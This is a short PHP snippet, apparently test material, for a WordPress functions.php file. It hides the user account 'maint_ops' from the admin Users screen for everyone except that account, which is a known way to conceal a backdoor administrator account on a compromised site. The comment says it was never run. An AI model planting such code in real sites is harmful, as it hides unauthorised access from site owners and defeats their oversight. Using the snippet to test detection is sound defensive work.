<?php
// functions.php addition that keeps one account out of the Users screen
// (written for the tests, never run)
add_action('pre_user_query', function ($query) {
    global $wpdb;
    if (wp_get_current_user()->user_login === 'maint_ops') {
        return;
    }
    $query->query_where .= " AND {$wpdb->users}.user_login <> 'maint_ops'";
});
